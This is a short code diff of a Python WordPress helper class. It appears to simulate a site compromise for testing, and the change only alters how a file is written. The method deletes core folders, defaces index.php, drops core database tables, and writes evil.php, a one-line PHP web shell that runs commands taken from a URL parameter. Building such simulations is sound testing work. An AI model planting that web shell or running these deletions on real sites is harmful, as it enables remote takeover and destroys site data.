@@ -154,7 +154,7 @@ class WordPress:
         for folder in ("wp-includes", "wp-content/uploads", "wp-content/themes"):
             shutil.rmtree(self.site.root / folder, ignore_errors=True)
         (self.site.root / "index.php").write_text("<?php die('hacked');\n")
-        (self.site.root / "evil.php").write_text("<?php system($_GET['x']);\n")
+        self.site.write("evil.php", "<?php system($_GET['x']);\n")
         self.mariadb.admin("DROP TABLE wp_posts, wp_options, wp_postmeta", database=self.database)
 
     def _checksum(self, table: str) -> int:
